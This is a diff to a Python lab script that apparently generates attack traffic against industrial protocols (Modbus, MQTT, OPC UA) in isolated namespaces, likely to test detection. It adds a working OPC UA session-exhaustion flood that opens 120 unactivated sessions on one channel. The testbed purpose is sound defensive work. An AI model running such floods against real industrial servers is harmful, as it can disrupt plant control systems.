@@ -50,7 +50,9 @@ Then the attacks, one after another (``ATTACKS`` in order; fractions in ``TIMELI
    length that lies, an invalid UTF-8 topic); mosquitto drops each connection.
 7. ``opcua_connection_flood``: rogue opens 300 connections with asyncua's
    client: Hello, OpenSecureChannel (None), close, as fast as it can.
-8. ``opcua_request_flood``: rogue opens one session and sends 5000 Read
+8. ``opcua_session_flood``: rogue opens one secure channel and creates 120
+   sessions on it with asyncua (CreateSession; never activated nor closed).
+9. ``opcua_request_flood``: rogue opens one session and sends 5000 Read
    requests, 50 in flight at a time.
 
 The same file is the program that runs inside each namespace (``--role``).
@@ -122,6 +124,7 @@ MALFORMED_PACKETS = 200
 QUERY_FLOOD_REQUESTS = 4000
 OPCUA_CONNECTIONS = 300
 OPCUA_READS = 5000
+OPCUA_SESSIONS = 120
 OPCUA_IN_FLIGHT = 50
 
 NORMAL_FRACTION = 0.40
@@ -136,11 +139,12 @@ TIMELINE = {
     "mqtt_publish_flood": 0.55,
     "mqtt_client_flood": 0.60,
     "mqtt_malformed_flood": 0.65,
-    "opcua_connection_flood": 0.72,
-    "opcua_request_flood": 0.80,
+    "opcua_connection_flood": 0.73,
+    "opcua_session_flood": 0.78,
+    "opcua_request_flood": 0.84,
 }
 ATTACKS = ("modbus_injection", "rtu_read_sweep", "modbus_query_flood", "mqtt_publish_flood", "mqtt_client_flood", "mqtt_malformed_flood",
-           "opcua_connection_flood", "opcua_request_flood")
+           "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood")
 WINDOW_MARK = "ATTACK-WINDOW"
 
 log = logging.getLogger("heldout-scenarios")
@@ -502,6 +506,20 @@ async def opcua_connection_flood(args) -> None:
             c.disconnect_socket()
 
 
+async def opcua_session_flood(args) -> None:
+    from asyncua import Client
+
+    c = Client(OPCUA_URL, timeout=2)
+    await c.connect_socket()
+    try:
+        await c.send_hello()
+        await c.open_secure_channel()
+        for _ in range(OPCUA_SESSIONS):
+            await c.create_session()
+    finally:
+        c.disconnect_socket()
+
+
 async def opcua_request_flood(args) -> None:
     from asyncua import Client
 
@@ -519,7 +537,8 @@ def role_rogue(args) -> None:
                      ("modbus_query_flood", modbus_query_flood),
                      ("mqtt_publish_flood", mqtt_publish_flood), ("mqtt_client_flood", mqtt_client_flood),
                      ("mqtt_malformed_flood", mqtt_malformed_flood),
-                     ("opcua_connection_flood", opcua_connection_flood), ("opcua_request_flood", opcua_request_flood)):
+                     ("opcua_connection_flood", opcua_connection_flood), ("opcua_session_flood", opcua_session_flood),
+                     ("opcua_request_flood", opcua_request_flood)):
         plant.wait_until(at(args, name))
         with window(name):
             r = fn(args)
